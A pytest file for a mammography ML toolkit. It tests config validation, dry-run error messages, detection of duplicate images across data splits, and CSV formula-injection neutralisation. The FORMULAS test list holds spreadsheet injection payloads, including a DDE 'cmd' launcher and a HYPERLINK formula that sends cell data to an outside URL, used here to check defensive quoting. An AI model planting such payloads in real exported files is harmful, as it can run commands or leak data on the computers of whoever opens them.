"""Careless inputs found in the field (issue #23): configs whose mistake used to pass silently.

Covers: a key given twice in a YAML file, a wrong-typed ``--set`` value (bool for an int), a dry run
of an experiment whose ``out`` is a file or whose data path is missing.
"""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
import yaml

from mammolab.app.run import run_experiment
from mammolab.config import load_yaml
from mammolab.errors import MammoLabError
from mammolab.train.fit import prepare_config


def _experiment(tmp: Path, **changes: object) -> dict:
    data = tmp / "list.csv"
    data.write_text("path,label,patient_id\n")
    cfg = {"name": "t", "out": str(tmp / "out"), "data": {"manifest": str(data)}, "preprocess": None,
           "train": {"defaults": {"epochs": 1, "image_size": 32, "weights": "none"}, "runs": [{"model": "mammocnn"}]}}
    cfg.update(changes)
    return cfg


def test_duplicate_yaml_key_names_file_key_and_both_lines(tmp_path: Path) -> None:
    path = tmp_path / "train.yaml"
    path.write_text("model: mammocnn\nepochs: 1\nlr: 0.001\nepochs: 50\n")
    with pytest.raises(MammoLabError) as err:
        load_yaml(path)
    msg = str(err.value)
    assert f"{path}: key 'epochs' is given twice (lines 2 and 4)" in msg and "\n" not in msg
    nested = tmp_path / "exp.yaml"
    nested.write_text("train:\n  defaults:\n    lr: 1\n    lr: 2\n")
    with pytest.raises(MammoLabError, match=r"key 'lr' is given twice \(lines 3 and 4\)"):
        load_yaml(nested)
    ok = tmp_path / "ok.yaml"  # the same key in two sections is no duplicate
    ok.write_text("a:\n  epochs: 1\nb:\n  epochs: 2\n")
    assert load_yaml(ok) == {"a": {"epochs": 1}, "b": {"epochs": 2}}


def test_set_bool_for_int_is_refused_naming_key_value_and_type(tmp_path: Path) -> None:
    with pytest.raises(MammoLabError) as err:
        prepare_config(tmp_path, overrides={"model": "mammocnn"}, sets={"epochs": True})
    assert str(err.value).startswith("--set epochs=true: expected int for epochs, got a bool")
    with pytest.raises(MammoLabError, match=r"--set augment.enabled=1: expected bool"):
        prepare_config(tmp_path, overrides={"model": "mammocnn"}, sets={"augment": {"enabled": 1}})
    # right types still pass, including an int for a float and a list for a tuple
    cfg = prepare_config(tmp_path, overrides={"model": "mammocnn"},
                         sets={"epochs": 3, "lr": 1, "augment": {"hflip": 0, "crop_scale": [0.9, 1.0]}})
    assert cfg.epochs == 3 and cfg.lr == 1.0 and cfg.augment.crop_scale == (0.9, 1.0)


def test_run_set_bool_for_int_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "exp.yaml"
    path.write_text(yaml.safe_dump(_experiment(tmp_path)))
    with pytest.raises(MammoLabError) as err:
        run_experiment(path, dry_run=True, sets={"train": {"defaults": {"epochs": True}}})
    assert "--set train.defaults.epochs=true: expected int" in str(err.value)
    with pytest.raises(MammoLabError, match=r"--set organize.seed=true: expected int"):
        run_experiment(path, dry_run=True, sets={"organize": {"seed": True}})


def test_dry_run_names_out_that_is_a_file_and_a_real_run_refuses_it(tmp_path: Path) -> None:
    out = tmp_path / "taken"
    out.write_text("not a folder")
    cfg = _experiment(tmp_path, out=str(out))
    result = run_experiment(cfg, dry_run=True)
    assert result.problems == [f"out: {out} exists and is a file; expected a folder "
                               "(it will hold dataset/, runs/ and report/)"]
    with pytest.raises(MammoLabError, match=r"^out: .* exists and is a file"):
        run_experiment(cfg)
    assert out.read_text() == "not a folder"


def test_dry_run_says_missing_data_path(tmp_path: Path) -> None:
    cfg = _experiment(tmp_path)
    cfg["data"] = {"manifest": str(tmp_path / "nowhere.csv")}
    result = run_experiment(cfg, dry_run=True)
    assert result.problems == [f"data.manifest: {tmp_path / 'nowhere.csv'} is missing (not found); edit the "
                               "experiment file to point at your data"]
    assert not (tmp_path / "out").exists()


def test_cli_dry_run_with_problems_exits_2(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from mammolab.cli import app

    cfg = _experiment(tmp_path)
    cfg["data"] = {"manifest": str(tmp_path / "nowhere.csv")}
    path = tmp_path / "exp.yaml"
    path.write_text(yaml.safe_dump(cfg))
    res = CliRunner().invoke(app, ["run", str(path), "--dry-run"])
    assert res.exit_code == 2 and "data.manifest" in res.output and "is missing" in res.output


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1,"a")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx",
            "'=already", "plain"]


def test_manifest_neutralises_formula_ids_and_reads_them_back(tmp_path: Path) -> None:
    from mammolab.data.manifest import load_manifest, write_manifest

    df = pd.DataFrame({"path": [f"train/benign/i{k}.png" for k in range(len(FORMULAS))], "split": "train",
                       "label": "benign", "patient_id": FORMULAS, "bbox_x0": -3.5, "bbox_y0": 2.0,
                       "bbox_x1": 10.0, "bbox_y1": 12.0, "offset": "-7"})
    path = write_manifest(df, tmp_path)
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    # every formula-leading id starts with a quote in the file: a spreadsheet shows it as text
    assert all(v.startswith("'") for v in raw["patient_id"][:-1]) and raw["patient_id"].iloc[-1] == "plain"
    assert raw["patient_id"].iloc[0] == "'=cmd|' /C calc'!A0" and raw["patient_id"].iloc[7] == "''=already"
    assert set(raw["bbox_x0"]) == {"-3.5"} and set(raw["offset"]) == {"-7"}  # numbers stay numbers
    back = load_manifest(tmp_path)
    assert list(back["patient_id"]) == FORMULAS  # the round trip gives the ids back: splits and joins unchanged
    assert back["bbox_x0"].tolist() == [-3.5] * len(FORMULAS)


def test_predictions_csv_is_neutralised_through_the_one_helper() -> None:
    from mammolab.io.csvsafe import read_csv, to_csv_text

    df = pd.DataFrame({"patient_id": FORMULAS, "prob": [-0.0, 0.5, 1.0, 0.2, 0.1, 0.3, 0.4, 0.6, 0.7]})
    text = to_csv_text(df)
    assert "\n'=HYPERLINK(" not in text and "\"'=HYPERLINK(" in text and ",-0.0\n" in text
    back = read_csv(io.StringIO(text), dtype={"patient_id": str}, keep_default_na=False)
    assert list(back["patient_id"]) == FORMULAS and back["prob"].dtype.kind == "f"


def test_cbis_source_replaced_in_place_is_redone(download, tmp_path: Path) -> None:
    import shutil

    import numpy as np
    import pydicom

    from mammolab.data.organize import organize
    from mammolab.io.images import read_image

    dl = tmp_path / "download"
    shutil.copytree(download.download_dir, dl)
    out = tmp_path / "ds"
    first = organize(dl, csv_dir=download.csv_dir, out=out, workers=1)
    row = first.manifest.iloc[0]
    before = read_image(out / row["path"])
    # the lesion's crop: the non-binary DICOM of its ROI series; same name, other pixels, same size
    series = sorted(p for p in dl.rglob("*.dcm") if p.relative_to(dl).parts[0] == row["image_id"])
    crop = next(p for p in series if len(np.unique(pydicom.dcmread(p).pixel_array)) > 2)
    ds = pydicom.dcmread(crop)
    arr = ds.pixel_array
    ds.PixelData = (arr.max() - arr).astype(arr.dtype).tobytes()
    ds.save_as(crop)
    again = organize(dl, csv_dir=download.csv_dir, out=out, workers=1)
    assert again.processed_units >= 1  # the unit of the changed file was redone, not reused
    after = read_image(out / row["path"])
    assert after.shape == before.shape and not np.array_equal(after, before)
    third = organize(dl, csv_dir=download.csv_dir, out=out, workers=1)
    assert third.processed_units == 0  # unchanged sources: everything reused


def _listing(lesions: Path, tmp: Path) -> tuple[pd.DataFrame, Path]:
    src = pd.read_csv(lesions / "manifest.csv", dtype=str, keep_default_na=False)
    listing = src[["path", "label", "patient_id", "split"]].copy()
    listing["path"] = [str(lesions / p) for p in listing["path"]]
    listing["split"] = listing["split"].replace({"val": "train"})
    return listing, tmp / "list.csv"


def test_same_image_under_two_patients_across_splits_is_refused_or_reported(lesions, tmp_path: Path) -> None:
    import json
    import shutil

    from mammolab.data.organize import organize

    listing, csv = _listing(lesions, tmp_path)
    train = listing[listing["split"] == "train"].iloc[0]
    copy = tmp_path / "copy_of_train.png"
    shutil.copy(train["path"], copy)  # a byte-identical copy filed under a new test patient
    listing.loc[len(listing)] = [str(copy), train["label"], "P_COPY", "test"]
    listing.to_csv(csv, index=False)
    with pytest.raises(MammoLabError) as err:
        organize(manifest=csv, out=tmp_path / "ds", workers=1)
    msg = str(err.value)
    assert train["path"] in msg and str(copy) in msg and "P_COPY" in msg and train["patient_id"] in msg
    assert "identical content" in msg and "\n" not in msg and not (tmp_path / "ds").exists()
    res = organize(manifest=csv, out=tmp_path / "ds", workers=1, config={"allow_duplicates": True})
    assert res.quality["patient_overlap_total"] == 0  # what the report used to say, and all it said
    leaks = json.loads((tmp_path / "ds" / "quality_report.json").read_text())["content_duplicates"]
    assert len(leaks) == 1 and "P_COPY" in leaks[0] and train["patient_id"] in leaks[0]
    assert "Identical image content" in (tmp_path / "ds" / "quality_report.md").read_text()
